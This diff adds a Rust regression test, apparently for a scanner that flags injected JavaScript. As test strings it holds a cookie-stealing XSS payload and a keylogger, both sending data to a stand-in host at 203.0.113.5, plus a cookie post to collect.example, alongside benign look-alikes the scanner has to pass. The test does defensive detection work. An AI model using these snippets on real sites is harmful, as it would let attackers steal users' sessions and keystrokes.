@@ -400,3 +400,27 @@ fn a_whole_script_loading_another_sites_script_is_reported_for_a_look() {
         assert!(remote_loader(js.as_bytes()).is_none(), "{js}");
     }
 }
+
+#[test]
+fn cookies_sent_away_and_keys_logged_are_found() {
+    // Regression: fresh96's XSS payload sends the cookies as a picture's address and logs the
+    // keys typed, ten at a time.
+    let thief = "(function() { const S = 'http://203.0.113.5:5000';\n\
+                 new Image().src = S + '/steal?c=' + encodeURIComponent(document.cookie); })();";
+    assert!(injected(thief.as_bytes()).is_some_and(|i| i.why == Why::StealsCookies));
+    let keys = "let buf = ''; document.addEventListener('keypress', function(e) { buf += e.key;\n\
+                if (buf.length >= 10) { new Image().src = S + '/k?k=' + btoa(buf); buf = ''; } });";
+    assert!(injected(keys.as_bytes()).is_some_and(|i| i.why == Why::CredentialCollector));
+    // A site's own cookie banner sets a cookie after a request; a search box reads keys and
+    // fetches suggestions; neither sends the cookies or the keys to a picture's address.
+    let banner = "fetch('/consent', {method: 'POST'}).then(() => document.cookie = 'ok=1; path=/');\n\
+                  var c = document.cookie.indexOf('ok=1') >= 0;";
+    assert!(injected(banner.as_bytes()).is_none());
+    // Regression: WordPress's `post.js` posts the cookies to its own `ajaxurl`.
+    let own = "$.post(ajaxurl, { action: 'set-post-thumbnail', cookie: encodeURIComponent( document.cookie ) });";
+    assert!(injected(own.as_bytes()).is_none());
+    let away = "$.post('https://collect.example/c', { cookie: encodeURIComponent( document.cookie ) });";
+    assert!(injected(away.as_bytes()).is_some_and(|i| i.why == Why::StealsCookies));
+    let search = "input.addEventListener('keyup', function(e) { q += e.key; fetch('/suggest?q=' + q); });";
+    assert!(injected(search.as_bytes()).is_none());
+}
